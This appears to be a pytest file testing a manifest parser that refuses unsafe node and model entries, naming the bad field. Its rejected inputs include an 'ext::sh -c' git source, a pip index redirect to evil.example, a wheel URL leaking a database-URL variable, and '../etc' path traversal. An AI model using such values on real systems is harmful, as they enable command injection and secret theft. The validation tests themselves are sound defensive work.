"""The environment manifest: what it accepts, what it refuses (naming the field), and its
hash."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from comfy_serverless.environments.errors import ManifestInvalid
from comfy_serverless.environments.manifest import environment_hash, parse_manifest
from comfy_serverless.environments.requests import MalformedEnvironment, parse_environment

COMMIT = "0123456789abcdef0123456789abcdef01234567"
SHA = "ab" * 32
GOOD = f'''
name = "portraits"

[[nodes]]
name = "cs-echo"
git = "https://git.example.com/acme/cs-echo.git"
commit = "{COMMIT}"
requirements = ["numpy>=1.25"]

[[nodes]]
name = "local-tools"
path = "nodes/local-tools"

[[models]]
source = "https://models.example.com/sd15/tiny.safetensors"
sha256 = "{SHA.upper()}"
folder = "checkpoints"
'''


def test_a_manifest_reads_into_nodes_and_models(tmp_path: Path) -> None:
    manifest = parse_manifest(GOOD, tmp_path)
    git, local = manifest.nodes
    assert (manifest.name, git.name, git.commit, git.requirements) == (
        "portraits", "cs-echo", COMMIT, ("numpy>=1.25",))
    assert local.path == tmp_path / "nodes" / "local-tools"
    assert local.requirements is None  # the pack's own requirements.txt
    (model,) = manifest.models
    assert (model.sha256, model.folder, model.name) == (SHA, "checkpoints", "tiny.safetensors")
    assert model.source.sha256 == SHA


def test_the_hash_is_stable_and_follows_every_field(tmp_path: Path) -> None:
    first = environment_hash(parse_manifest(GOOD, tmp_path))
    assert first == environment_hash(parse_manifest(GOOD, tmp_path))
    assert re.fullmatch(r"[0-9a-f]{64}", first)
    changed = GOOD.replace(COMMIT, "f" * 40)
    assert environment_hash(parse_manifest(changed, tmp_path)) != first
    assert environment_hash(parse_manifest(GOOD, tmp_path), {"local-tools": "1" * 64}) != first


@pytest.mark.parametrize(("edit", "field", "words"), [
    (lambda text: text.replace(f'commit = "{COMMIT}"\n', ""), "nodes[0].commit", "required"),
    (lambda text: text.replace(COMMIT, "0123abc"), "nodes[0].commit", "40-hex"),
    (lambda text: text.replace('name = "cs-echo"', 'name = "../up"'), "nodes[0].name",
     "safe name"),
    (lambda text: text.replace('path = "nodes/local-tools"',
                               f'path = "x"\ncommit = "{COMMIT}"'), "nodes[1].commit",
     "only a `git` node"),
    (lambda text: text.replace('path = "nodes/local-tools"', 'path = "x"\ngit = "/r.git"'),
     "nodes[1]", "either `git`"),
    (lambda text: text.replace("https://git.example.com", "ext::sh -c"), "nodes[0].git",
     "must start with"),
    (lambda text: text.replace('"numpy>=1.25"', '"--index-url=https://evil.example"'),
     "nodes[0].requirements[0] of node 'cs-echo'", "pip options"),
    (lambda text: text.replace('"numpy>=1.25"', '"numpy>>>1"'),
     "nodes[0].requirements[0] of node 'cs-echo'", "not a requirement"),
    (lambda text: text.replace('"numpy>=1.25"',
                               '"foo @ https://evil.example/${COMFY_SERVERLESS_DATABASE_URL}.whl"'),
     "nodes[0].requirements[0] of node 'cs-echo'", "'${' is not allowed"),
    (lambda text: text.replace('name = "portraits"', f'name = "{"p" * 65}"'), "name",
     "at most 64"),
    (lambda text: text.replace('name = "portraits"', 'name = "-portraits"'), "name",
     "not an environment name"),
    (lambda text: text.replace(f'sha256 = "{SHA.upper()}"\n', ""), "models[0].sha256",
     "required"),
    (lambda text: text.replace('folder = "checkpoints"', 'folder = "../etc"'),
     "models[0].folder", "model folder"),
    (lambda text: text.replace("https://models.example.com", "ftp://models.example.com"),
     "models[0].source", "starts with"),
    (lambda text: text.replace('name = "local-tools"', 'name = "cs-echo"'), "nodes[1].name",
     "twice"),
    (lambda text: text.replace("requirements =", "requirement ="), "nodes[0]", "unknown key"),
    (lambda text: text.replace('name = "portraits"', ""), "name", "required"),
    (lambda text: text + "\n[[nodes]\n", "(file)", "not valid TOML"),
])
def test_a_wrong_manifest_is_refused_naming_the_field(tmp_path: Path, edit: object,
                                                      field: str, words: str) -> None:
    assert callable(edit)
    with pytest.raises(ManifestInvalid) as refused:
        parse_manifest(edit(GOOD), tmp_path)
    assert refused.value.field == field
    assert words in str(refused.value)
    assert str(refused.value).startswith(f"manifest: {field}: ")


def test_the_environment_name_takes_exactly_the_submits_rule(tmp_path: Path) -> None:
    for name in ("p" * 64, "a..b", "v1.2_x-y"):
        manifest = parse_manifest(GOOD.replace('name = "portraits"', f'name = "{name}"'),
                                  tmp_path)
        assert parse_environment(manifest.name).name == name
    with pytest.raises(MalformedEnvironment):
        parse_environment("p" * 65)


def test_the_manifest_of_the_models_how_to_is_valid(tmp_path: Path) -> None:
    page = (Path(__file__).parents[2] / "docs" / "how-to" / "models.md").read_text()
    section = page.split("## Environments", 1)[1]
    example = re.search(r"```toml\n(.*?)```", section, re.DOTALL)
    assert example is not None
    manifest = parse_manifest(example.group(1), tmp_path)
    assert manifest.nodes
    assert manifest.models
